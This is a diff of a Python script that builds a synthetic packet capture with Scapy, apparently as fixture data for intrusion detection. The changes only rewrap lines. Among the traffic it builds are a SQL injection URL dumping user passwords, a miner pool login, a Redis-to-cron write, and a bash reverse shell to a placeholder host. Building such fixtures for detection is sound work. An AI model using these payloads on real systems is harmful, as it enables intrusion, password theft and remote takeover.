@@ -61,7 +61,9 @@ def get(path: str, host: str = "portal.example", agent: str = "Mozilla/5.0", mor
 
 
 def post(path: str, body: str, more: str = "") -> bytes:
-    head = f"POST {path} HTTP/1.1\r\nHost: portal.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: portal.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+    )
     return f"{head}{more}Content-Length: {len(body)}\r\n\r\n{body}".encode()
 
 
@@ -73,7 +75,9 @@ def answer(body: str, status: str = "200 OK", more: str = "") -> bytes:
 def lookup(ts: float, client: str, name: str, address: str) -> list[Packet]:
     port, number = next(_ports), _random.randrange(65536)
     question = DNS(id=number, rd=1, qd=DNSQR(qname=name))
-    reply = DNS(id=number, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=address, ttl=300))
+    reply = DNS(
+        id=number, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata=address, ttl=300)
+    )
     return [
         _frame(ts, IP(src=client, dst=RESOLVER) / UDP(sport=port, dport=53) / question),
         _frame(ts + 0.01, IP(src=RESOLVER, dst=client) / UDP(sport=53, dport=port) / reply),
@@ -86,7 +90,9 @@ def build() -> list[Packet]:
     frames: list[Packet] = []
     for second in range(20):
         frames += lookup(second + 0.1, CLERK, "portal.example", PORTAL)
-        frames += talk(second + 0.2, CLERK, PORTAL, 80, (">", get(f"/news/{second}.html")), ("<", answer(page)))
+        frames += talk(
+            second + 0.2, CLERK, PORTAL, 80, (">", get(f"/news/{second}.html")), ("<", answer(page))
+        )
     attack = [
         (2.0, get("/index.html", agent="sqlmap/1.8#stable (https://sqlmap.org)")),
         (3.5, get("/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20")),
@@ -97,7 +103,9 @@ def build() -> list[Packet]:
     ]
     for ts, request in attack:
         frames += talk(ts, STRANGER, PORTAL, 80, (">", request), ("<", answer("<html>ok</html>")))
-    login = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21"}}\n'
+    login = (
+        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21"}}\n'
+    )
     job = b'{"id":1,"jsonrpc":"2.0","result":{"id":"1","job":{"blob":"00","job_id":"1","target":"ff"}}}\n'
     frames += talk(11.0, TERMINAL, "198.51.100.7", 3333, (">", login), ("<", job))
     for number in range(1, 16):
@@ -105,7 +113,9 @@ def build() -> list[Packet]:
         frames.append(_frame(13.0 + number * 0.02, ping))
     frames += talk(15.0, TERMINAL, "198.51.100.8", 7000, (">", b"TST\x06\x00\x00\x000.26.1"), ("<", b"ok"))
     shell = b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
-    frames += talk(17.0, STRANGER, DATABASE, 6379, (">", b"CONFIG SET dir /var/spool/cron/\r\n"), (">", shell))
+    frames += talk(
+        17.0, STRANGER, DATABASE, 6379, (">", b"CONFIG SET dir /var/spool/cron/\r\n"), (">", shell)
+    )
     return sorted(frames, key=lambda frame: float(frame.time))
 
 
